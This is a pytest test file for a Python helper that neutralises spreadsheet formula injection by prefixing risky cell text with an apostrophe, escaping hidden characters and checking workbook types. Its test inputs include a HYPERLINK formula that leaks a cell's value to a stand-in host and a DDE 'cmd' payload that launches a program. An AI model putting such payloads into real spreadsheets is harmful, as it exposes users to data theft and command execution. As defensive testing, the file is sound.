"""reports/sheet_text.py: text a spreadsheet shows and never runs, and back again."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from reports.sheet_text import MachineText, append, as_written, inert, put


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&C2,"点击查看")', "+86 138", "-2+3+cmd|' /C calc'!A0",
                                  "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_a_text_that_looks_like_a_formula_gets_the_quote(text: str) -> None:
    assert inert(text) == "'" + text and as_written(inert(text)) == text


@pytest.mark.parametrize("text", ["贝壳", "张女士", "138****0001", "", "a=b", "'quoted", "''=x", "'", "#N/A"])
def test_every_text_reads_back_as_written(text: str) -> None:
    assert as_written(inert(text)) == text
    assert inert(text) == text or inert(text) == "'" + text


def test_plain_text_is_left_alone() -> None:
    assert inert("贝壳") == "贝壳" and as_written("'abc") == "'abc"  # a channel's own apostrophe stays


def test_control_characters_an_xlsx_cannot_hold_are_shown_not_refused() -> None:
    assert inert("备注\x01结束\x0b") == "备注<U+0001>结束<U+000B>"
    assert inert(MachineText("a\x01")) == "a\ufffd"


def test_hidden_characters_show_as_code_points_as_in_the_pdfs() -> None:
    assert inert("贝\u202e壳\u200b") == "贝<U+202E>壳<U+200B>"
    assert inert("第一行\n第二行") == "第一行\n第二行"  # a note's line breaks stay


def test_machine_text_is_written_as_it_is() -> None:
    pem = "-----BEGIN PUBLIC KEY-----\nMCow\n-----END PUBLIC KEY-----"
    assert inert(MachineText(pem)) == pem and inert(pem).startswith("'")


def test_a_workbook_keeps_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    moment = datetime(2026, 3, 1, 10, 30)
    append(sheet, ["=1+1", 42, 0.5, moment, None, "#N/A", "贝壳"])
    put(sheet["A2"], "@SUM(A1)")
    book.save(tmp_path / "t.xlsx")
    read = openpyxl.load_workbook(tmp_path / "t.xlsx")
    first = [(c.value, c.data_type) for c in next(iter(read.worksheets[0].iter_rows(max_row=1)))]
    assert first == [("'=1+1", "s"), (42, "n"), (0.5, "n"), (moment, "d"), (None, "n"), ("#N/A", "s"), ("贝壳", "s")]
    assert read.worksheets[0]["A2"].value == "'@SUM(A1)" and read.worksheets[0]["A2"].data_type == "s"
